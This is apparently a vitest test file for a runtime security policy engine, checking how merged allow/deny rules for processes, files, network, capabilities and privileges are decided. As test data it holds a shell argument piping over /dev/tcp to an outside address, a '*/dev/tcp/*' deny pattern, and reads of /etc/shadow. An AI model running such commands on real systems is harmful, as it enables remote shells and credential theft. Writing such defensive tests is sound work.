import { describe, expect, it } from 'vitest';
import type { RuntimePolicy } from '../model/policy.js';
import { testPolicy } from '../testing/policies.js';
import type { Action, ExecAction, FileAction, NetworkAction } from './action.js';
import { decide } from './decide.js';
import { mergePolicies } from './merge.js';

const exec = (path: string, more: Partial<ExecAction> = {}): Action => ({
  ...{ kind: 'exec', path, arguments: '', ancestors: [], drifted: false, fileless: false },
  ...more,
});
const file = (operation: FileAction['operation'], path: string, more: Partial<FileAction> = {}): Action => ({
  ...{ kind: 'file', operation, path, by: '/usr/bin/x', owner: false },
  ...more,
});
const net = (operation: NetworkAction['operation'], more: Partial<NetworkAction> = {}): Action => ({
  ...{ kind: 'network', operation, family: 'ipv4', protocol: 'tcp', by: '/usr/bin/x' },
  ...more,
});

/** `enforced/watched by policy:line`, as far as they say something. */
function verdicts(policies: readonly RuntimePolicy[], action: Action): string {
  const { enforced, watched } = decide(mergePolicies(policies), action);
  return [enforced, watched]
    .map(({ verdict, line }) =>
      line === undefined ? verdict : `${verdict} ${line.policy}:${line.span.line}`,
    )
    .join(', ');
}
// The spec of a test policy begins in line 6.
const spec = (name: string, text: string): RuntimePolicy => testPolicy(text, name);

describe('decide', () => {
  const base = spec(
    'a-base',
    'mode: protect\nprocess:\n  deny:\n    - {directory: /tmp, except: [/tmp/ok]}\n',
  );
  const team = spec('b-team', 'mode: protect\nprocess:\n  default: deny\n  allow: [/usr/bin/app, /tmp/**]\n');
  const trial = spec(
    'c-trial',
    'mode: monitor\nprocess:\n  deny: [/usr/bin/app]\n  allow: [/usr/bin/extra]\n',
  );

  it.each([
    ['nothing is said', [], exec('/x'), 'allow, allow'],
    ['an allow line', [team], exec('/usr/bin/app'), 'allow b-team:9, allow b-team:9'],
    ['the default', [team], exec('/usr/bin/other'), 'deny b-team:8, deny b-team:8'],
    ['a deny line over an allow line', [base, team], exec('/tmp/x'), 'deny a-base:9, deny a-base:9'],
    ['what a deny line excepts', [base, team], exec('/tmp/ok'), 'allow b-team:9, allow b-team:9'],
    ['a deny line in monitor', [team, trial], exec('/usr/bin/app'), 'allow b-team:9, deny c-trial:8'],
    ['an allow line in monitor opens nothing', [team, trial], exec('/usr/bin/extra'), 'deny b-team:8, allow c-trial:9'], // biome-ignore format: a row
  ])('%s', (_, policies, action, expected) => {
    expect(verdicts(policies, action)).toBe(expected);
  });

  it('passes over sections that are off or learn', () => {
    const learning = spec('p', 'mode: learn\nprocess: {default: deny}\nfile: {mode: off, default: deny}\n');
    const merged = mergePolicies([learning]);
    expect([merged.sections.size, merged.lines.length]).toEqual([0, 0]);
    expect(decide(merged, exec('/x')).watched).toEqual({ verdict: 'allow', line: undefined });
  });

  it.each([
    ['the name of an executable that is elsewhere', exec('/usr/bin/nc'), 'allow'],
    ['another digest', exec('/opt/tool', { sha256: 'cd'.repeat(32) }), 'allow'],
    ['the digest', exec('/opt/tool', { sha256: 'ab'.repeat(32) }), 'deny'],
    ['no known digest', exec('/opt/tool'), 'allow'],
    ['the arguments', exec('/bin/dash', { arguments: '-c cat </dev/tcp/1.2.3.4/5' }), 'deny'],
    ['other arguments', exec('/bin/dash', { arguments: '-c ls' }), 'allow'],
    ['an ancestor', exec('/usr/bin/curl', { ancestors: ['/usr/bin/dash', '/usr/sbin/nginx'] }), 'deny'],
    ['no such ancestor', exec('/usr/bin/curl', { ancestors: ['/usr/bin/dash'] }), 'allow'],
    ['drift', exec('/usr/bin/ls', { drifted: true }), 'deny'],
    ['a program without a file', exec('/usr/bin/ls', { fileless: true }), 'deny'],
  ])('process: %s', (_, action, expected) => {
    const policy = spec('p', `mode: protect
process:
  drift: deny
  fileless: deny
  allow: [/usr/bin/ls]
  deny:
    - {path: /opt/tool, sha256: [${'ab'.repeat(32)}]}
    - {arguments: ["*/dev/tcp/*"]}
    - {path: /usr/bin/curl, ancestors: [/usr/sbin/nginx]}
`); // biome-ignore format: a policy
    expect(decide(mergePolicies([policy]), action).enforced.verdict).toBe(expected);
  });

  it.each([
    ['reading', file('read', '/etc/shadow'), 'deny'],
    ['reading by the one that may', file('read', '/etc/shadow', { by: '/usr/sbin/login' }), 'deny'],
    ['writing', file('write', '/etc/hosts'), 'deny'],
    ['reading what is only not to be written', file('read', '/etc/hosts'), 'allow'],
    ['changing what is the own', file('chmod', '/srv/x', { owner: true }), 'allow'],
    ['changing what is not', file('chmod', '/srv/x'), 'deny'],
    ['by the executable', file('delete', '/var/log/x', { by: '/bin/dash' }), 'deny'],
    ['by another', file('delete', '/var/log/x'), 'deny'],
    ['by one that is allowed', file('delete', '/var/log/x', { by: '/usr/sbin/logrotate' }), 'allow'],
  ])('file: %s', (_, action, expected) => {
    const policy = spec('p', `mode: protect
file:
  default: deny
  allow:
    - /etc/hosts
    - {glob: /srv/**, operations: [chmod], ownerOnly: true}
    - {directory: /var/log, operations: [modify], from: [/usr/sbin/logrotate, /bin/dash]}
  deny:
    - /etc/shadow
    - {path: /etc/hosts, operations: [modify]}
    - {directory: /var/log, operations: [delete], from: [/bin/dash]}
`); // biome-ignore format: a policy
    expect(decide(mergePolicies([policy]), action).enforced.verdict).toBe(expected);
  });

  it.each([
    ['a network', net('connect', { address: '10.1.2.3', port: 5432 }), 'allow'],
    ['another port', net('connect', { address: '10.1.2.3', port: 22 }), 'deny'],
    ['another network', net('connect', { address: '11.1.2.3', port: 5432 }), 'deny'],
    ['a mapped address', net('connect', { address: '::ffff:10.1.2.3', port: 5432 }), 'allow'],
    ['another protocol', net('connect', { address: '10.1.2.3', port: 5432, protocol: 'udp' }), 'deny'],
    ['the socket for what is allowed', net('create'), 'allow'],
    ['a socket of another family', net('create', { family: 'ipv6' }), 'deny'],
    ['a raw socket', net('create', { protocol: 'raw' }), 'deny'],
    [
      'a range of ports',
      net('bind', { family: 'ipv6', address: '::1', port: 8081, protocol: 'udp' }),
      'allow',
    ],
    ['a line that denies connecting does not deny sockets', net('create', { family: 'unix', by: '/bin/dash' }), 'allow'], // biome-ignore format: a row
  ])('network: %s', (_, action, expected) => {
    const policy = spec('p', `mode: protect
network:
  default: deny
  allow:
    - {operation: connect, cidrs: [10.0.0.0/8], ports: [5432], protocols: [tcp]}
    - {operation: bind, ports: [8080-8090], protocols: [udp], families: [ipv6]}
    - {operation: create, families: [unix]}
  deny:
    - {operation: connect, families: [unix], from: [/bin/dash]}
`); // biome-ignore format: a policy
    expect(decide(mergePolicies([policy]), action).enforced.verdict).toBe(expected);
  });

  it('names, handles and privileges', () => {
    const policy = spec('p', `mode: protect
capabilities: {default: deny, allow: [CHOWN]}
syscalls: {deny: [mount]}
kernelSurface: {deny: [bpf]}
privilege: {noNewPrivileges: true, setuidExecution: deny, readOnlyRoot: true}
`); // biome-ignore format: a policy
    const of = (action: Action) => decide(mergePolicies([policy]), action).enforced.verdict;
    expect(of({ kind: 'capability', name: 'CHOWN' })).toBe('allow');
    expect(of({ kind: 'capability', name: 'SYS_ADMIN' })).toBe('deny');
    expect(of({ kind: 'syscall', name: 'mount' })).toBe('deny');
    expect(of({ kind: 'syscall', name: 'umount2' })).toBe('allow');
    expect(of({ kind: 'kernel', handle: 'bpf' })).toBe('deny');
    expect(of({ kind: 'kernel', handle: 'ptrace' })).toBe('allow');
    for (const privilege of ['setuid-execution', 'new-privileges', 'root-write'] as const) {
      expect(of({ kind: 'privilege', privilege })).toBe('deny');
    }
  });
});

describe('an effective policy', () => {
  const a = spec('a', 'mode: protect\nresponse: kill\nfile: {deny: [/a]}\n');
  const b = spec('b', 'mode: protect\nonFailure: closed\nfile: {onMissing: alert, deny: [/b]}\n');
  const c = spec('c', 'mode: monitor\nonMissing: refuse\nfile: {default: deny, deny: [/c]}\n');

  it('takes the strictest of what the policies in protect say of the section', () => {
    expect(mergePolicies([a, b, c]).sections.get('file')).toMatchObject({
      ...{ enforced: true, response: 'kill', onFailure: 'closed', onMissing: 'refuse' },
    });
    expect(mergePolicies([b, c]).sections.get('file')).toMatchObject({ onMissing: 'alert' });
    expect(mergePolicies([c]).sections.get('file')).toMatchObject({ enforced: false, response: 'deny' });
  });

  it('is the same whatever the order, and numbers its lines', () => {
    const merged = mergePolicies([a, b, c]);
    expect(mergePolicies([c, b, a, a])).toEqual(merged);
    expect(merged.lines.map(({ id, policy }) => `${id}${policy}`)).toEqual(['1a', '2b', '3c', '4c']);
  });

  it('has an id of what decides: neither comments nor places count', () => {
    const id = (text: string): string => mergePolicies([spec('p', text)]).id;
    const plain = id('file: {deny: [/a]}\n');
    expect(id('description: x\nfile:\n  deny:\n    - {path: /a, comment: why}\n')).toBe(plain);
    expect(id('file: {deny: [/b]}\n')).not.toBe(plain);
    expect(id('file: {mode: protect, deny: [/a]}\n')).not.toBe(plain);
    expect(plain).toMatch(/^[0-9a-f]{64}$/);
  });
});
